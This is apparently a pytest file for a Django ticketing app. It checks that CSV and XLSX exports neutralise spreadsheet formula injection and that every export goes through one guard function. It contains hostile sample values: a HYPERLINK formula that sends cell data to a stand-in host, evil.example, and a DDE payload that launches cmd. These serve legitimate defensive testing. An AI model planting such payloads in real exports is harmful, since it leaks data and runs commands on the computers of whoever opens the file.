"""Exports: no cell of any export can run as a formula, and every export writes through the one guard."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.test import Client

from tuki.core.spreadsheets import FORMULA_STARTS, Sheet, safe_cell, xlsx_bytes
from tuki.environments.models import Environment
from tuki.tickets.services import ticket_create

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_kept_as_they_are() -> None:
    assert safe_cell("SR-12") == "SR-12"
    assert safe_cell("Laskutus – kuukausi") == "Laskutus – kuukausi"
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"


def test_no_cell_of_the_portal_export_runs_as_a_formula(client: Client, anna: Any, agreement_a: Any) -> None:
    """The requester's name, the environment and the subject are the customer's own words: each is guarded."""
    anna.full_name = HOSTILE
    anna.save(update_fields=["full_name"])
    environment = Environment.objects.create(organisation=anna.contact.organisation, name="+cmd|' /C calc'!A0")
    agreement_a.environments.add(environment)
    ticket_create(actor=anna, requester=anna.contact, subject="@SUM(A1:A9)", environment=environment)
    client.force_login(anna)
    body = client.get("/portal/requests/export.csv", {"status": "all"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert f"'{HOSTILE}" in cells and "'@SUM(A1:A9)" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_every_export_writes_through_the_guard() -> None:
    """csv.writer (or any other spreadsheet writer) outside tuki.core.spreadsheets would skip the guard."""
    root = Path(settings.BASE_DIR) / "tuki"
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b|^\s*import csv\b|^\s*from csv import|openpyxl|xlsxwriter", re.M)
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_plain_numbers_stay_numbers() -> None:
    """A late correction's negative hours import as numbers; anything more than a number is still guarded."""
    assert [safe_cell(value) for value in ("-1.50", "-0:30", "-12", Decimal("-3.25"))] == [
        "-1.50",
        "-0:30",
        "-12",
        "-3.25",
    ]
    assert safe_cell("-1+1") == "'-1+1" and safe_cell("-2:30+cmd") == "'-2:30+cmd"


def test_xlsx_text_is_never_a_formula() -> None:
    content = xlsx_bytes([Sheet("s", ["name", "amount", "day"], [[HOSTILE, Decimal("-1.50"), date(2027, 3, 1)]])])
    row = [cell.value for cell in openpyxl.load_workbook(io.BytesIO(content))["s"][2]]
    assert row[0] == "'" + HOSTILE and row[1] == -1.5 and row[2].date() == date(2027, 3, 1)
